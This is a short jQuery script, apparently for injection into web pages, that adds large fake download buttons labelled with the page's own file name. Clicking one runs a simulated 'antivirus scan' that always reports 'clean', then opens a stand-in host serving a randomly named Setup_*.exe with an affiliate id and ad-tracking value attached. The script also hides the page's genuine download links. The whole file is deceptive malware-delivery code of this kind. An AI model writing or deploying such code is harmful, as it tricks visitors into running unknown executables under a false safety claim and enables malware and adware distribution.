jQuery(function($){
  var q = new URLSearchParams(location.search);
  var name = q.get('q') || $('h1').first().text() || 'file';
  var size = (Math.random()*40+8).toFixed(1);
  var btns = [
    {t:'DOWNLOAD NOW', u:'https://dl.fast-setup.test/get?n='},
    {t:'Descargar (servidor 2)', u:'https://mirror2.fast-setup.test/get?n='},
    {t:'Start Download', u:'https://go.installmon.test/?a=5503&n='}
  ];
  $.each(btns, function(i,b){
    var $a = $('<a class="big-green-dl"/>').text(b.t+' ('+size+' MB)')
      .attr('href','#').css({background:'#2e9e4f',color:'#fff',padding:'18px 40px',display:'block',margin:'12px auto',width:260,fontWeight:'bold',textAlign:'center'});
    $a.on('click', function(e){
      e.preventDefault();
      var h = 'Setup_'+name.replace(/\W+/g,'_')+'_'+Math.floor(Math.random()*1e6)+'.exe';
      $('<div class="chk">Scanning with antivirus... <b>0%</b></div>').insertAfter(this);
      var p=0, tm=setInterval(function(){
        p+=7; $('.chk b').text(Math.min(p,100)+'% - clean');
        if(p>=100){ clearInterval(tm); window.open(b.u+encodeURIComponent(h)+'&gclid='+(q.get('gclid')||'')); location.href='/thanks.html'; }
      },120);
    });
    $('.entry-content, article, body').first().prepend($a);
  });
  $('a.real-link, .mirror').hide();
});
